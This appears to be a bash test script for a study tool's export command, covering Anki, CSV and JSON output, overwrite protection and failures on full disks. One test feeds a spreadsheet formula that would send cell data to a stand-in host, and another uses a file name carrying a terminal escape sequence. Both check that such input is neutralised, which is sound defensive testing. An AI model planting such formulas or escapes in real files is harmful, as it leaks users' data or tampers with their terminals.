#!/usr/bin/env bash
# Export tests: the Anki file is imported by the real `anki` package (PyPI,
# in .venv-anki, made on first use); CSV goes through Python's csv parser and
# back; JSON through json; --output never overwrites without --force; output
# that cannot be written (a full disk, a file size limit) fails in one line and
# leaves no cut file.
#
#   Tests/Export/export.sh [BINARY]     (default .build/debug/awsml-tui)
set -uo pipefail
source "$(dirname "${BASH_SOURCE[0]}")/../lib/checks.sh"
cd "$(dirname "$0")/../.."
binary=$(realpath "${1:-.build/debug/awsml-tui}")
work=$(mktemp -d /tmp/awsml-export.XXXXXX)
# stats keeps its record of stores checked here, not in the user's cache.
export XDG_CACHE_HOME="$work/cache"
trap 'rm -rf "$work"' EXIT

if [ ! -x .venv-anki/bin/python ]; then
  python3 -m venv .venv-anki && .venv-anki/bin/pip install -q 'anki==26.9.3' >/dev/null 2>&1
fi

# Anki: import the file into a fresh collection.
"$binary" export --format anki --output "$work/deck.tsv"
if .venv-anki/bin/python Tests/Export/anki_import.py "$work/deck.tsv" 42 > "$work/anki.log" 2>&1; then
  check "Anki imports the export (anki package)" true
else
  check "Anki imports the export (anki package)" false
fi
sed 's/^/    /' "$work/anki.log"

# Anki re-import: study the Elastic Inference facts, export, reword one of
# them, open the notes (the progress is re-linked), export again, import both
# into one collection: the note is updated in place, not added again.
cp assets/aws-ml-specialty-recap-2-of-3.md "$work/recap.md"
printf '1\n%.0s' $(seq 1 30) | "$binary" quiz --plain --topic "Amazon Elastic Inference" --questions 4 --seed 2 \
  --store "$work/reimport.sqlite" "$work/recap.md" > /dev/null
"$binary" export --format anki --store "$work/reimport.sqlite" --output "$work/before.tsv" "$work/recap.md"
sed -i 's/Reduces deep learning inference costs by up to 75%/Reduces deep learning inference costs by up to 75 percent/' "$work/recap.md"
echo q | "$binary" quiz --plain --topic "Amazon Elastic Inference" --store "$work/reimport.sqlite" "$work/recap.md" > "$work/reopen.out"
check "opening the edited notes re-links the fact" grep -q "re-linked" "$work/reopen.out"
"$binary" export --format anki --store "$work/reimport.sqlite" --output "$work/after.tsv" "$work/recap.md"
if .venv-anki/bin/python Tests/Export/anki_reimport.py "$work/before.tsv" "$work/after.tsv" 42 \
     "inference costs by up to 75%" "inference costs by up to 75 percent" > "$work/reimport.log" 2>&1; then
  check "Anki updates the re-linked fact's note on re-import (anki package)" true
else
  check "Anki updates the re-linked fact's note on re-import (anki package)" false
fi
sed 's/^/    /' "$work/reimport.log"

# CSV: a real parser reads every row back, fields intact, including progress.
store="$work/progress.sqlite"
"$binary" stats --store "$store" > /dev/null
"$binary" export --format csv --store "$store" --output "$work/deck.csv"
check "CSV round-trips through Python's csv module with the facts of check --json" \
  python3 - "$work/deck.csv" <<PY
import csv, json, subprocess, sys
rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
header, body = rows[0], rows[1:]
assert header == ["deck", "topic path", "fact", "details", "fact id", "state", "due", "stability", "difficulty", "reps", "lapses", "choices", "answer"], header
doc = json.loads(subprocess.check_output(["$binary", "check", "--json"]))
facts = []
def walk(node):
    facts.extend((f["id"], f["text"]) for f in node["facts"])
    for child in node["children"]: walk(child)
walk(doc["decks"][0]["root"])
assert [(r[4], r[2]) for r in body] == facts, "facts differ"
assert all(r[5] == "new" for r in body)
with open(sys.argv[1] + ".again", "w", newline="", encoding="utf-8") as again:
    csv.writer(again, lineterminator="\r\n").writerows(rows)
assert open(sys.argv[1] + ".again", encoding="utf-8").read() == open(sys.argv[1], encoding="utf-8").read(), "not RFC 4180 as Python writes it"
PY

check "JSON export parses and carries progress and reviews per fact" \
  bash -c "'$binary' export --format json --store '$store' | python3 -c 'import json,sys; d=json.load(sys.stdin); f=d[\"decks\"][0][\"root\"][\"children\"][0][\"children\"][0][\"facts\"][0]; assert f[\"progress\"] is None and f[\"reviews\"] == [], f'"

printf 'keep me\n' > "$work/existing.tsv"
out=$("$binary" export --format anki --output "$work/existing.tsv" 2>&1); status=$?
check "--output refuses to overwrite without --force" \
  test "$status:$out:$(cat "$work/existing.tsv")" = "2:awsml-tui: error: $work/existing.tsv: already exists; add --force to overwrite it:keep me"
check "--force overwrites" bash -c "'$binary' export --format anki --output '$work/existing.tsv' --force && head -1 '$work/existing.tsv' | grep -q '#separator:tab'"

# --output named in Latin-1 (caf\xe9.tsv) is written under that name, not as caf\xef\xbf\xbd.tsv.
"$binary" export --format anki --output "$work/caf"$'\xe9'".tsv"
check "--output with a name that is not UTF-8 writes that very file" \
  bash -c "[ -s '$work/caf'$'\xe9''.tsv' ] && [ ! -e '$work/caf'$'\xef\xbf\xbd''.tsv' ]"

# CSV injection (OWASP): a cell a spreadsheet would run as a formula starts
# with a quote; the text after it is the fact as check --json has it.
printf '%s\n' '# Formulas' '## Topic' '- =HYPERLINK("http://example.com/?x=" & A1, "click")' '- +1+2 as text' \
  '- -2 dB per metre' '- @SUM(A1:A9) as text' '- an ordinary fact, = + - @ inside' > "$work/formulas.md"
"$binary" export --format csv --store "$store" --output "$work/formulas.csv" "$work/formulas.md"
check "CSV: cells starting with = + - @ get a leading ', ordinary ones are as they are" \
  python3 - "$work/formulas.csv" "$binary" "$work/formulas.md" <<'PY'
import csv, json, subprocess, sys
rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))[1:]
doc = json.loads(subprocess.check_output([sys.argv[2], "check", "--json", sys.argv[3]]))
facts = [f["text"] for f in doc["decks"][0]["root"]["children"][0]["children"][0]["facts"]]
cells = [r[2] for r in rows]
assert cells[:4] == ["'" + f for f in facts[:4]], cells
assert cells[4] == facts[4] == "an ordinary fact, = + - @ inside", cells
PY

# A deck titled by a file name holding ESC, BEL and a newline (no front
# matter title, no level-1 heading): the title is exported with U+FFFD for
# them, in the Anki header and the CSV deck column.
post="$work/inj"$'\e]0;owned\a\nline.md'
printf '## Post\n### Topic\n- a fact about things\n' > "$post"
fffd=$'\xef\xbf\xbd'
"$binary" export --format anki "$post" > "$work/inj.tsv"
check "anki: the deck header shows the file name's controls as U+FFFD" \
  test "$(grep '^#deck:' "$work/inj.tsv")" = "#deck:inj$fffd]0;owned$fffd${fffd}line"
"$binary" export --format csv --store "$store" "$post" > "$work/inj.csv"
check "csv: so does the deck column" \
  python3 -c 'import csv, sys; rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8"))); assert rows[1][0] == sys.argv[2], rows[1]' \
  "$work/inj.csv" "inj$fffd]0;owned$fffd${fffd}line"

# Output that cannot be written: one line naming it, status 2, and never a
# cut file. Standard output on a full disk (/dev/full) first.
full_disk="No space left on device"
for format in anki csv json; do
  "$binary" export --format $format --store "$store" > /dev/full 2> "$work/err"; status=$?
  check "export --format $format > /dev/full: status 2 and one line" \
    test "$status:$(cat "$work/err")" = "2:awsml-tui: error: standard output: cannot be written: $full_disk"
done
"$binary" export --format json --store "$store" --output /dev/full --force 2> "$work/err"; status=$?
check "--output /dev/full --force: status 2 and one line" \
  test "$status:$(cat "$work/err")" = "2:awsml-tui: error: /dev/full: cannot be written: $full_disk"

# A disk that fills up during the export: a 64 KB tmpfs in a mount namespace
# of its own, filled but for one page (the JSON needs three).
disk="$work/disk"
mkdir "$disk"
printf '{"old": true}\n' > "$work/old.json"
if unshare -rm true 2> /dev/null; then
  unshare -rm bash -c '
    disk=$1 binary=$2 store=$3 work=$4
    mount -t tmpfs -o size=64k tmpfs "$disk" || exit 3
    cp "$work/old.json" "$disk/out.json"
    head -c 1M /dev/zero > "$disk/filler" 2> /dev/null
    truncate -s -4K "$disk/filler"
    "$binary" export --format json --store "$store" --output "$disk/out.json" --force 2> "$work/err-existing"
    echo $? > "$work/status-existing"
    cp "$disk/out.json" "$work/out-after.json"
    "$binary" export --format json --store "$store" --output "$disk/new.json" 2> "$work/err-new"
    echo $? > "$work/status-new"
    ls -A "$disk" > "$work/listing"
  ' - "$disk" "$binary" "$store" "$work"
  check "a full disk: --output out.json --force fails in one line, status 2" \
    test "$(cat "$work/status-existing"):$(cat "$work/err-existing")" \
       = "2:awsml-tui: error: $disk/out.json: cannot be written: $full_disk"
  check "and the old out.json is kept as it was" cmp -s "$work/old.json" "$work/out-after.json"
  check "a full disk: a new --output file fails in one line, status 2" \
    test "$(cat "$work/status-new"):$(cat "$work/err-new")" \
       = "2:awsml-tui: error: $disk/new.json: cannot be written: $full_disk"
  check "and no file is left behind, partial or temporary" \
    test "$(cat "$work/listing" | tr '\n' ' ')" = "filler out.json "
else
  echo "info - skipped the full tmpfs: no mount namespace here (unshare -rm)"
fi

# Past a file size limit (ulimit -f 128: 128 KiB) with a post whose JSON is
# about 700 KB: the old file is kept and no temporary file is left.
{
  printf '# Large\n'
  for topic in $(seq 1 50); do
    printf '## Topic %d\n' "$topic"
    for fact in $(seq 1 40); do printf -- '- fact %d of topic %d, with words enough to take room\n' "$fact" "$topic"; done
  done
} > "$work/large.md"
cp "$work/old.json" "$work/limit.json"
( ulimit -f 128; "$binary" export --format json --store "$store" --output "$work/limit.json" --force "$work/large.md" ) \
  2> "$work/err"; status=$?
check "past ulimit -f: status 2 and one line" \
  test "$status:$(cat "$work/err")" = "2:awsml-tui: error: $work/limit.json: cannot be written: File too large"
check "and the old file is kept, with no temporary file beside it" \
  bash -c "cmp -s '$work/old.json' '$work/limit.json' && ! ls -A '$work' | grep -q awsml-tui-"
"$binary" export --format json --store "$store" --output "$work/limit.json" --force "$work/large.md"
check "without the limit the same export is whole JSON" \
  python3 -c "import json, sys; d = json.load(open(sys.argv[1])); assert len(d['decks'][0]['root']['children'][0]['children']) == 50" \
  "$work/limit.json"
chmod 600 "$work/existing.tsv"
"$binary" export --format anki --output "$work/existing.tsv" --force
check "a replaced file keeps its permissions" test "$(stat -c %a "$work/existing.tsv")" = 600

finish export
